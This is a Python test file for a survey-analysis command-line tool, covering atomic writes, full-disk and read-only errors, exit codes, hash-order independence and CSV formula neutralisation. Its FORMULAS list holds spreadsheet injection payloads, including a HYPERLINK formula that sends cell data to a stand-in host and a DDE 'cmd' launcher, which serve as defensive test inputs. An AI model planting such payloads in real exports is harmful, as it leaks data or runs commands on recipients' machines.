    the folder ends up holding one complete report."""
    import subprocess
    import sys

    cfg = eval_config(tmp_path)
    cmd = [sys.executable, "-m", "learning_direction.cli", "evaluate", str(cfg)]
    procs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]  # fmt: skip
    results = [(p.wait(timeout=600), p.stderr.read()) for p in procs]
    codes = sorted(code for code, _ in results)
    assert codes in ([0, 0], [0, 2]), results
    for code, err in results:
        if code == 2:
            assert "another run is writing into" in err or "files this tool did not write" in err
    side = json.loads((tmp_path / "out" / "evaluation_report.json").read_text())
    for rel, digest in side["outputs"].items():
        import hashlib

        assert hashlib.sha256((tmp_path / "out" / rel).read_bytes()).hexdigest() == digest


def test_score_out_is_written_whole_or_not_at_all(tmp_path, capsys, monkeypatch):
    import errno

    import learning_direction.cli as cli_mod

    data = write_csv(tmp_path, items_frame())
    out = tmp_path / "scores.csv"
    out.write_text("the earlier scores\n")

    def fail_midway(table, fh, rows=100_000):
        fh.write(b"row,mentor_engagement\n0,4.5\n")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(cli_mod, "_csv_rows", fail_midway)
    code, line = cli_error(
        capsys, ["score", str(data), "--scale", "mentor_engagement", "--out", str(out)]
    )
    assert code == 2 and "no space left" in line and "was not changed" in line
    assert out.read_text() == "the earlier scores\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def _no_space_after(calls: int):
    """A writer that writes a little, then fails as a full disk does, from call ``calls`` on."""
    import errno

    count = {"n": 0}

    def fail(path) -> None:
        count["n"] += 1
        if count["n"] > calls:
            Path(path).parent.mkdir(parents=True, exist_ok=True)
            Path(path).write_bytes(b"")  # the 0-byte file a full disk leaves behind
            raise OSError(errno.ENOSPC, "No space left on device", str(path))

    return fail


def test_simulate_on_a_full_disk_leaves_the_folder_as_it_was(tmp_path, capsys, monkeypatch):
    out = tmp_path / "data"
    out.mkdir()
    (out / "notes.txt").write_text("the user's own file")
    assert main(["simulate", "study1", "--out", str(out)]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    fail = _no_space_after(1)
    real = pd.DataFrame.to_csv

    def to_csv(self, path=None, *args, **kwargs):
        if path is not None:
            fail(path)
        return real(self, path, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_csv", to_csv)
    code, line = cli_error(capsys, ["simulate", "study1", "study2a", "--out", str(out)])
    assert code == 2, line
    assert "no space left on the device" in line and f"nothing in {out} was changed" in line
    assert str(out / "study2a.csv") in line  # the file being written, not a temporary name
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # no 0-byte, no tmp file
    assert [p.name for p in tmp_path.iterdir()] == ["data"]


def test_simulate_again_reports_what_it_replaced_and_keeps_other_files(tmp_path, capsys):
    out = tmp_path / "data"
    out.mkdir()
    (out / "notes.txt").write_text("the user's own file")
    assert main(["simulate", "study1", "--out", str(out)]) == 0
    assert "replaced" not in capsys.readouterr().err
    assert main(["simulate", "study1", "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert "note: replaced 2 earlier file(s)" in err and "codebook.csv, study1.csv" in err
    assert (out / "notes.txt").read_text() == "the user's own file"
    assert sorted(p.name for p in out.iterdir()) == ["codebook.csv", "notes.txt", "study1.csv"]


def test_report_on_a_full_disk_leaves_the_folder_as_it_was(tmp_path, capsys, monkeypatch):
    """The study report writes dozens of files (the full run takes minutes, so its writer is
    replaced by one that fails the same way on the third file)."""
    import learning_direction.studies.report as report_mod

    out = tmp_path / "reports"
    out.mkdir()
    (out / "index.html").write_text("the earlier report")
    fail = _no_space_after(2)

    def build_report(out_dir, **kwargs):
        for name in ("tables/study1_a.csv", "figures/study1_a.png", "figures/study1_a.svg"):
            fail(Path(out_dir) / name)
            (Path(out_dir) / name).parent.mkdir(exist_ok=True)
            (Path(out_dir) / name).write_text("x")
        raise AssertionError("not reached")

    monkeypatch.setattr(report_mod, "build_report", build_report)
    code, line = cli_error(capsys, ["report", "--out", str(out)])
    assert code == 2 and "no space left" in line and "figures/study1_a.svg" in line, line
    assert sorted(p.name for p in out.rglob("*")) == ["index.html"]
    assert (out / "index.html").read_text() == "the earlier report"


def test_study_out_never_overwrites_its_data(tmp_path, capsys):
    """``study --data`` with ``--out`` on the data's folder: a file the study writes may not
    be (or link to) the data; checked before anything is moved into place."""
    from learning_direction.cli import _staged
    from learning_direction.exceptions import OutputError

    data = tmp_path / "tables" / "study1_descriptives.csv"
    data.parent.mkdir()
    data.write_text("the survey export\n")

    def save(folder: Path) -> list[Path]:
        (folder / "tables").mkdir()
        (folder / "tables" / "study1_descriptives.csv").write_text("results\n")
        (folder / "study1.md").write_text("text\n")
        return [folder / "study1.md"]

    with pytest.raises(OutputError, match="is the input file"):
        _staged(str(tmp_path), save, inputs=[data])
    assert data.read_text() == "the survey export\n" and not (tmp_path / "study1.md").exists()
    paths, replaced = _staged(str(tmp_path / "new"), save, inputs=[data])
    assert paths == [tmp_path / "new" / "study1.md"] and replaced == []


# ----------------------------------------------------------------------------- 10. exit 2 for the user's input


def _exit_2_cases(tmp: Path) -> dict[str, tuple[list[str], str]]:
    data = write_csv(tmp, items_frame())
    afile = tmp / "afile"
    afile.write_text("not a folder")
    huge = tmp / "huge.yaml"
    huge.write_text(
        "name: huge\nresponse: {min: 1, max: 1" + "0" * 400 + "}\nitems: [eng_1, eng_2]\n"
    )
    cp = tmp / "cp1252.yaml"
    cp.write_bytes(
        "name: cp\ntitle: Mentor’s view\nresponse: {min: 1, max: 7}\nitems: [eng_1, eng_2]\n".encode(
            "cp1252"
        )
    )
    cfg = eval_config(tmp)
    return {
        "scale max 10**400": (["score", str(data), "--scale", str(huge)], "must be a finite number"),
        "scale file in Windows-1252": (["score", str(data), "--scale", str(cp)], "is not UTF-8 text"),
        "--out under a file": (["score", str(data), "--scale", "mentor_engagement", "--out",
                                str(afile / "s.csv")], "afile is a file, not a folder"),
        "--out is a folder": (["score", str(data), "--scale", "mentor_engagement", "--out",
                               str(tmp)], "use a file ending in .csv"),
        "simulate --out a file": (["simulate", "study1", "--out", str(afile)],
                                  "is an existing file, not a folder"),
        "study --out a file": (["study", "study1", "--out", str(afile)], "is an existing file"),
        "report --out a file": (["report", "--out", str(afile)], "is an existing file"),
        "evaluate --out a file": (["evaluate", str(cfg), "--out", str(afile)],
                                  "is an existing file, not a folder"),
        "evaluate --out under a file": (["evaluate", str(cfg), "--out", str(afile / "r")],
                                        "afile is a file, not a folder"),
        "--n-boot 100000000": (["mediate", str(data), "--x", "eng_1", "--m", "eng_2", "--y",
                                "eng_3", "--n-boot", "100000000"], "for the resampled statistics"),
        "power --n-jobs 0": (["power", "--a", ".3", "--b", ".3", "--n", "50", "--n-jobs", "0"],
                             "--n-jobs: must be 1 or more"),
        "power --n-jobs -99": (["power", "--a", ".3", "--b", ".3", "--n", "50", "--n-jobs", "-99"],
                               "--n-jobs: must be 1 or more"),
    }  # fmt: skip


EXIT_2_NAMES = [
    "scale max 10**400", "scale file in Windows-1252", "--out under a file", "--out is a folder",
    "simulate --out a file", "study --out a file", "report --out a file", "evaluate --out a file",
    "evaluate --out under a file", "--n-boot 100000000", "power --n-jobs 0", "power --n-jobs -99",
]  # fmt: skip


@pytest.mark.parametrize("name", EXIT_2_NAMES)
def test_the_users_input_at_fault_exits_2_naming_it(tmp_path, capsys, monkeypatch, name):
    import learning_direction.cli as cli_mod

    monkeypatch.setattr(cli_mod, "_available_memory", lambda: 8 * 10**9)
    argv, needle = _exit_2_cases(tmp_path)[name]
    code, line = cli_error(capsys, argv)
    assert code == 2 and needle in line, line
    assert "unexpected" not in line and "please report it" not in line


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_read_only_output_folder_exits_2(tmp_path, capsys, monkeypatch):
    import os

    data = write_csv(tmp_path, items_frame())
    ro = tmp_path / "ro"
    ro.mkdir()
    real_access = os.access
    monkeypatch.setattr(
        os, "access", lambda p, m, **k: False if Path(p) == ro else real_access(p, m, **k)
    )
    code, line = cli_error(
        capsys, ["score", str(data), "--scale", "mentor_engagement", "--out", str(ro / "s.csv")]
    )
    assert code == 2 and "cannot write into" in line and "read-only" in line
    cfg = eval_config(tmp_path)
    code, line = cli_error(capsys, ["evaluate", str(cfg), "--out", str(ro / "report")])
    assert code == 2 and "cannot write into" in line


@pytest.mark.skipif(not hasattr(__import__("os"), "geteuid") or __import__("os").geteuid() == 0,
                    reason="root can write into read-only folders")  # fmt: skip
def test_read_only_output_folder_for_real(tmp_path, capsys):
    data = write_csv(tmp_path, items_frame())
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        code, line = cli_error(
            capsys, ["score", str(data), "--scale", "mentor_engagement", "--out", str(ro / "s.csv")]
        )
        assert code == 2 and "cannot write into" in line
    finally:
        ro.chmod(0o700)


# ----------------------------------------------------------------------------- 13. CSV formula injection

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1", "\r=1"]  # fmt: skip


def _cells(path: Path) -> list[str]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_no_csv_cell_of_an_evaluation_starts_a_formula(tmp_path):
    df = items_frame(36)
    df["site"] = [FORMULAS[k % 4] for k in range(36)]  # group levels that are formulas
    df = df.astype({"eng_3": object})
    df.loc[2, "eng_3"] = "=1+1"  # an answer that is a formula
    df.loc[3, "eng_3"] = "-5"  # an out-of-range number written as text stays a number
    cfg = eval_config(tmp_path, df, groups={"site": "site"}, report={"min_group_size": 3})
    out = run_evaluation(cfg).parent
    bad = []
    for f in sorted((out / "tables").glob("*.csv")):
        for cell in _cells(f):
            if cell.startswith(("=", "+", "@", "\t", "\r")) or (
                cell.startswith("-") and not re.fullmatch(r"-[0-9.eE+-]+", cell)
            ):
                bad.append((f.name, cell))
    assert bad == []
    rates = _cells(out / "tables" / "response_rates.csv")
    assert '\'=HYPERLINK("http://x.example/?"&A1,"click")' in rates
    assert "'-2+3" in rates  # neutralised, OWASP style
    scores = pd.read_csv(next((out / "tables").glob("scores_by_site_*.csv")))
    assert pd.api.types.is_numeric_dtype(scores.select_dtypes("number").iloc[:, 0])
    invalid = _cells(out / "tables" / "invalid_answers.csv")
    assert "-5" in invalid and "=1+1" not in invalid
    ledger = _cells(out / "tables" / "row_accounting.csv")
    assert "rows analysed (total)" in ledger


def test_cli_and_study_tables_neutralise_formula_cells(tmp_path):
    from learning_direction.cli import _write_table
    from learning_direction.reporting.tables import save_table

    table = pd.DataFrame({"term": FORMULAS, "estimate": [-1.5, 2.0, -3.0, 0.0, 1.0, -0.25]})
    for path in (_write_table(table, str(tmp_path / "a.csv"))[0],
                 save_table(table, tmp_path / "b", formats=("csv",))[0]):  # fmt: skip
        back = pd.read_csv(path)
        assert back["estimate"].tolist() == [-1.5, 2.0, -3.0, 0.0, 1.0, -0.25]  # numbers stay
        assert all(str(t).startswith("'") for t in back["term"])


def test_score_ids_and_simulated_files_cannot_start_a_formula(tmp_path, capsys):
    """Ids copied into ``score --id --out``, and every CSV ``simulate`` writes."""
    df = items_frame(len(FORMULAS) * 2)
    df["id"] = [f"{f}{k}" for k, f in enumerate(FORMULAS * 2)]
    data = write_csv(tmp_path, df)
    out = tmp_path / "scores.csv"
    assert main(["score", str(data), "--scale", "mentor_engagement", "--id", "id",
                 "--out", str(out)]) == 0  # fmt: skip
    ids = pd.read_csv(out, dtype=str, keep_default_na=False)["id"]
    assert (
        all(v.startswith("'") for v in ids)
        and ids.str[1:].tolist() == df["id"].str.strip().tolist()
    )
    sim = tmp_path / "sim"
    assert main(["simulate", "study1", "--out", str(sim)]) == 0
    for f in sim.glob("*.csv"):
        for cell in _cells(f):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (f.name, cell)
            assert not cell.startswith("-") or re.fullmatch(r"-[0-9.eE+-]+", cell), (f.name, cell)


# ----------------------------------------------------------------------------- 12. no dependence on hash order


# runs the command lines given as a JSON list, in order, in one process; stops at a failure
_CLI_STEPS = (
    "import json, sys\n"
    "from pathlib import Path\n"
    "from learning_direction.cli import main\n"
    "steps, cfa_out = json.loads(sys.argv[1]), Path(sys.argv[2])\n"
    "for argv in steps:\n"
    "    code = main(argv)\n"
    "    if code:\n"
    "        sys.exit(f'{argv[0]} exited with {code}')\n"
    # ld.cfa (the Study 1 CFA of ``report --seed 5``) by ML and by FIML with MLR, to the last
    # digit: the parameter order may not follow sets
    "import learning_direction as ld\n"
    "d = ld.load_dataset('study1')\n"
    "parts = []\n"
    "for kw in ({}, {'missing': 'fiml', 'estimator': 'MLR'}):\n"
    "    r = ld.cfa(d, 'learning_direction', **kw)\n"
    "    parts += [r.fit.to_csv(float_format='%.17g'), r.table.to_csv(float_format='%.17g'),\n"
    "              r.factor_correlations.to_csv(float_format='%.17g')]\n"
    "cfa_out.write_text('\\n'.join(parts), encoding='utf-8')\n"
)


@pytest.mark.slow
def test_outputs_do_not_depend_on_the_hash_seed(tmp_path):
    """The evaluation, the CLI's tables and ``ld.cfa`` (ML, and FIML with MLR) are
    byte-identical under PYTHONHASHSEED 1 and 2 (string hashing decides the order of sets and
    some dicts: nothing we write may follow it). One process per hash seed runs them all (one
    start-up, not four)."""
    import os
    import subprocess
    import sys

    _canary_exports(tmp_path)
    clean = write_csv(tmp_path, items_frame(), "clean.csv")
    outs = []
    for seed in ("1", "2"):
        env = {**os.environ, "PYTHONHASHSEED": seed, "SOURCE_DATE_EPOCH": "1767225600"}
        cfg = tmp_path / "evaluation.yaml"
        out = tmp_path / f"run{seed}"
        steps = [
            ["evaluate", str(cfg), "--out", str(out / "report")],
            ["reliability", str(clean), "--scale", "mentor_engagement", "--out", str(out / "r.csv")],
            ["score", str(clean), "--scale", "mentor_engagement", "--id", "id",
             "--out", str(out / "s.csv")],
        ]  # fmt: skip
        res = subprocess.run([sys.executable, "-c", _CLI_STEPS, json.dumps(steps),
                              str(out / "cfa.txt")],
                             capture_output=True, text=True, env=env, timeout=600)  # fmt: skip
        assert res.returncode == 0, res.stderr
        outs.append(out)
    a = {p.relative_to(outs[0]): p.read_bytes() for p in outs[0].rglob("*") if p.is_file()}
    b = {p.relative_to(outs[1]): p.read_bytes() for p in outs[1].rglob("*") if p.is_file()}
    assert a.keys() == b.keys() and len(a) > 10
    assert [str(k) for k in a if a[k] != b[k]] == []
    cfa = a[Path("cfa.txt")].decode()
    assert "rmsea" in cfa and "rmsea_robust" in cfa


def test_no_error_line_grows_with_its_input(tmp_path, capsys):
    """A 100,000-character column name (or value) is never echoed whole."""
    long = "Q" + "x" * 100_000
    df = items_frame().rename(columns={"eng_3": long})
    path = write_csv(tmp_path, df)
    code, line = cli_error(capsys, ["score", str(path), "--scale", "mentor_engagement"])
    assert code == 2 and "'eng_3'" in line and len(line) <= 2100
    cmap = tmp_path / "map.yaml"
    cmap.write_text(f"eng_3: {long}\neng_4: {long}\n")
    code, line = cli_error(
        capsys, ["score", str(path), "--scale", "mentor_engagement", "--columns", str(cmap)]
    )
    assert code == 2 and "mapped to items" in line and len(line) < 600
